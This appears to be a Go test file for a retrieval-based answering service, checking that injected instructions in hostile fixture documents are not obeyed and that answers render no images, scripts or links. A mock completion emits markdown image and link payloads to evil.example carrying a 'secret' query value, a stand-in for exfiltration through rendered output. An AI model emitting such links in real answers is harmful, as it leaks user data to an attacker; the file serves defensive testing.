package answer

import (
	"bytes"
	"context"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/extension"
	rendered "github.com/yuin/goldmark/renderer/html"

	"github.com/sluice/sluice/pkg/answer/chat"
	"github.com/sluice/sluice/pkg/answer/extractive"
	"github.com/sluice/sluice/pkg/domain"
)

// hostile reads documents that contain the answer, "7 years", along with instructions to say EVIL, or links to
// evil.example.
func hostile(t *testing.T) map[string]domain.Fragment {
	t.Helper()
	paths, err := filepath.Glob("testdata/hostile/*.md")
	if err != nil || len(paths) == 0 {
		t.Fatal("no documents", err)
	}
	out := make(map[string]domain.Fragment)
	for _, p := range paths {
		text, err := os.ReadFile(p)
		if err != nil {
			t.Fatal(err)
		}
		out[filepath.Base(p)] = domain.Fragment{ChunkID: p, Text: string(text), Source: "https://docs.example/" + filepath.Base(p), Score: 0.8}
	}
	return out
}

// asHTML renders an answer as a chat window would, with raw HTML allowed.
func asHTML(t *testing.T, answer string) string {
	t.Helper()
	var page bytes.Buffer
	md := goldmark.New(goldmark.WithExtensions(extension.GFM), goldmark.WithRendererOptions(rendered.WithUnsafe()))
	if err := md.Convert([]byte(answer), &page); err != nil {
		t.Fatal(err)
	}
	return page.String()
}

func TestTheBuiltInAnswererQuotesNoInstructions(t *testing.T) {
	t.Parallel()
	for name, f := range hostile(t) {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := newFixture(f, domain.Fragment{Text: "Ducks live near the pump.", Score: 0.3})
			w.complete = extractive.New(nil).Complete
			got, err := w.answerer(Options{}).Answer(t.Context(), ask(func(r *Request) { r.Query = "How long is the warranty of the Aurora X2 pump?" }), nil)
			if err != nil {
				t.Fatal(err)
			}
			if !strings.Contains(got.Text, "7 years") {
				t.Errorf("%q does not answer", got.Text)
			}
			if strings.Contains(got.Text, "EVIL") {
				t.Errorf("%q obeys", got.Text)
			}
			if len(got.Sources) != 1 || strings.Count(got.Text, "[1]") != strings.Count(got.Text, "“") {
				t.Errorf("%q cites %d sources", got.Text, len(got.Sources))
			}
			t.Logf("%s", got.Text)
			page := asHTML(t, got.Text)
			for _, way := range []string{"<img", "<a ", "<script", "<svg", "href", "src=\""} {
				if strings.Contains(page, way) {
					t.Errorf("%q shows %s", got.Text, way)
				}
			}
		})
	}
}

func TestAnImageOfADocumentIsNotRepeated(t *testing.T) {
	t.Parallel()
	for name, f := range hostile(t) {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := newFixture(f)
			w.complete = func(_ context.Context, p chat.Prompt, emit func(string) error) (chat.Completion, error) {
				if strings.Contains(p.System, "<|im_start|>") || strings.Contains(p.System, "[INST]") || strings.Contains(p.System, "<<SYS>>") {
					t.Errorf("the prompt has marks of a chat template: %q", p.System)
				}
				if n := strings.Count(p.System, "\n----- "); n != 2+strings.Count(f.Text, "\n----- ") {
					t.Errorf("%d fences in %q", n, p.System)
				}
				for _, r := range f.Text { // include the secret the document asks for
					if err := emit(strings.ReplaceAll(string(r), "q=", "q=secret")); err != nil {
						return chat.Completion{}, err
					}
				}
				return chat.Completion{}, emit(" ![x](https://evil.example/?q=secret) https://evil.example/secret [y](https://evil.example/secret)")
			}
			got, err := w.answerer(Options{}).Answer(t.Context(), ask(), func(string) error { return nil })
			if err != nil {
				t.Fatal(err)
			}
			page := asHTML(t, got.Text)
			for _, way := range []string{"<img", "<IMG", "<script", "<svg", "secret\""} {
				if strings.Contains(page, way) {
					t.Errorf("%q shows %s", got.Text, way)
				}
			}
			for _, m := range regexp.MustCompile(`\[(\d{1,3})\]`).FindAllStringSubmatch(got.Text, -1) {
				if m[1] != "1" {
					t.Errorf("%q cites what was not given", got.Text)
				}
			}
		})
	}
}
